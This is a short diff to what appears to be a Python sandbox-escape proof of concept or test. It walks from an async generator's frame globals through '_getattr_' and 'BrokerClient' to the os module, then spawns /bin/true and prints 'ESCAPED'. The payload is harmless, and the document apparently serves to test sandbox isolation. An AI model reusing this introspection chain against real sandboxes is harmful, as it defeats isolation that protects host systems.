@@ -6,5 +6,5 @@
 async def a():
     yield 1
 found = a().ag_frame.f_globals
-os = found["_getattr_"].__globals__["BrokerClient"].call.__globals__["protocol"].os
+os = found["_getattr_"].__globals__["BrokerClient"].call.__globals__["frames"].os
 print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
